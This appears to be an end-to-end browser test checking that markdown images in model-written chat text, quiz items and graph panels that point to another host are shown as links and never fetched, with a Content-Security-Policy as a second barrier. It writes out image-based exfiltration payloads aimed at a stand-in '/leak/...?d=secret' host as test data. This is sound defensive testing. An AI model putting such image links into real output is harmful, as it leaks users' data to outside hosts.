"""Model text that points images at another host makes the browser fetch nothing from it:
in a message, a research note, a question and its options, a verdict, the question dock and
home's node panel, the image is a link naming its host; and the page's
Content-Security-Policy blocks a foreign image even when one reaches the DOM."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import anyio
import msgspec
import pytest
from playwright.async_api import Page, expect

from backend.core.ports import LedgerBatch
from backend.server.stores import build_stores
from shared_contracts.chat import ChatRecord, Message, TextPart, ToolPart
from shared_contracts.graph import EventLine, Evidence, MappingLine, PropositionLine
from shared_contracts.jobs import ResearchNote
from shared_contracts.questions import Verdict
from shared_contracts.tools import GradedOutput, JobOutput
from tests.e2e.conftest import Servers

pytestmark = pytest.mark.browser

CHAT_ID = "foreign-images"
AT = datetime(2026, 1, 1, tzinfo=UTC)


class Elsewhere:
    """A loopback HTTP server standing for another host: it records every request."""

    def __init__(self) -> None:
        paths: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                paths.append(self.path)
                self.send_response(404)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.paths = paths
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def image(self, where: str) -> str:
        return f"![{where} picture](http://{self.host}/leak/{where}?d=secret)"

    def __enter__(self) -> Elsewhere:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def _quiz(call: str, prompt: str, option: str, state: str, output=None) -> ToolPart:
    question = {
        "kind": "multiple_choice",
        "prompt": prompt,
        "options": [{"id": "a", "text": option}, {"id": "b", "text": "plain"}],
        "correct": "b",
    }
    return ToolPart(
        tool_call_id=call,
        tool_name="quiz",
        state=state,
        input={"question": question},
        output=output,
    )


def write_chat(data_dir: Path, elsewhere: Elsewhere) -> None:
    img = elsewhere.image
    note = ResearchNote(title="A note", body=f"Halves. {img('note')}", caveat="")
    research = ToolPart(
        tool_call_id="call_r1",
        tool_name="research",
        state="output-available",
        input={"question": "halves"},
        job_id="job-r1",
        output=JobOutput(job_id="job-r1", status="done", result=note),
    )
    verdict = Verdict(correct=False, expected=img("expected"), feedback=img("feedback"))
    graded = _quiz(
        "call_q1",
        f"Which? {img('asked')}",
        img("option"),
        "output-available",
        GradedOutput(answer="a", verdict=verdict),
    )
    text = (
        f"A picture: {img('message')}\n\nBy reference: ![ref][pic]\n\n"
        f"[pic]: http://{elsewhere.host}/leak/reference\n\nAn own image: ![own](/favicon.ico)"
    )

    def message(mid: str, role: str, turn: int, *parts) -> Message:
        return Message(id=mid, role=role, turn=turn, created_at=AT, parts=list(parts))

    record = ChatRecord(
        id=CHAT_ID,
        title="Foreign images",
        created_at=AT,
        updated_at=AT,
        model="offline",
        turns=2,
        messages=[
            message("m1", "user", 1, TextPart(text="hi")),
            message("m2", "assistant", 1, TextPart(text=text), research, graded),
            message("m3", "user", 2, TextPart(text="more")),
            message(
                "m4",
                "assistant",
                2,
                _quiz("call_q2", f"Now? {img('dock')}", img("choice"), "input-available"),
            ),
        ],
    )
    chats = data_dir / "chats"
    chats.mkdir(parents=True, exist_ok=True)
    (chats / f"{CHAT_ID}.json").write_bytes(msgspec.json.encode(record))


def write_graph(data_dir: Path, elsewhere: Elsewhere) -> None:
    quote = f"so {elsewhere.image('quote')}"
    batch = LedgerBatch(
        propositions=[
            PropositionLine(
                id="node-1",
                statement=f"Halves {elsewhere.image('statement')}",
                chat_id=CHAT_ID,
                created_at=AT,
                evidence=[
                    Evidence(
                        quote=quote,
                        message_id="m1",
                        turn=1,
                        speaker="learner",
                        start=0,
                        end=len(quote),
                    )
                ],
            )
        ],
        events=[
            EventLine(
                id="ev-1",
                ref=f"{CHAT_ID}:call_q1",
                chat_id=CHAT_ID,
                node_id="node-1",
                kind="quiz_incorrect",
                at=AT,
                tool_call_id="call_q1",
                question=f"Which? {elsewhere.image('probe')}",
                answer=elsewhere.image("answer"),
                correct=False,
            )
        ],
        mappings=[
            MappingLine(chat_id=CHAT_ID, local_id="plan:p1", node_id="node-1", how="created", at=AT)
        ],
    )
    anyio.run(build_stores(data_dir).graph.append, batch)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with Elsewhere() as server:
        yield server


@pytest.fixture
def seeded(servers: Servers, elsewhere: Elsewhere, tmp_path: Path) -> Iterator[Servers]:
    data_dir = tmp_path / "data"
    write_chat(data_dir, elsewhere)
    write_graph(data_dir, elsewhere)
    servers.stop_api()
    servers.start_api_again(LH_DATA_DIR=str(data_dir))
    try:
        yield servers
    finally:
        servers.stop_api()
        servers.start_api_again()


def watch(page: Page, ui_url: str) -> list[str]:
    """Every URL the page asks for that is not the UI's own origin (or inline data)."""
    foreign: list[str] = []

    def seen(request) -> None:
        url = request.url
        if not (url.startswith(ui_url + "/") or url.startswith("data:")):
            foreign.append(url)

    page.on("request", seen)
    return foreign


async def test_foreign_images_in_model_text_become_links_and_are_never_fetched(
    seeded: Servers, elsewhere: Elsewhere, page: Page
):
    foreign = watch(page, seeded.ui_url)
    response = await page.goto(f"{seeded.ui_url}/chat/{CHAT_ID}")
    assert response is not None
    assert response.headers["content-security-policy"] == "img-src 'self' data:"
    conversation = page.locator("#conversation")
    for where in ("message", "note", "asked", "option", "expected", "feedback"):
        link = conversation.locator(".lh-foreign-image", has_text=f"{where} picture")
        await expect(link).to_have_text(f"{where} picture (image from {elsewhere.host})")
    await expect(conversation.locator(".lh-foreign-image", has_text="ref")).to_have_count(1)
    dock = page.locator("#question-dock")
    for where in ("dock", "choice"):
        await expect(dock.locator(".lh-foreign-image", has_text=f"{where} picture")).to_be_visible()
    # The app's own image still loads; no model text made an <img> for another host.
    await expect(conversation.locator("img[alt=own]")).to_have_count(1)
    sources = await page.locator("img").evaluate_all("els => els.map(e => e.src)")
    assert all(src.startswith((seeded.ui_url, "data:")) for src in sources), sources

    # The second lock: an image that reaches the DOM anyway is refused by the policy (the
    # browser still reports the attempt: it never reaches the other host).
    assert foreign == []
    blocked = await page.evaluate(
        """url => new Promise(done => {
            document.addEventListener('securitypolicyviolation',
                e => done(e.violatedDirective + ' ' + e.blockedURI), {once: true});
            const img = document.createElement('img');
            img.src = url;
            document.body.appendChild(img);
        })""",
        f"http://{elsewhere.host}/leak/injected",
    )
    assert blocked.startswith("img-src") and elsewhere.host in blocked
    foreign.clear()

    await page.goto(seeded.ui_url + "/")
    await page.locator("#graph .react-flow__node.selectable").first.click()
    panel = page.locator("#node-panel")
    for where in ("statement", "quote", "probe", "answer"):
        link = panel.locator(".lh-foreign-image", has_text=f"{where} picture")
        await expect(link).to_have_text(f"{where} picture (image from {elsewhere.host})")

    await page.wait_for_timeout(300)
    assert foreign == [] and elsewhere.paths == []
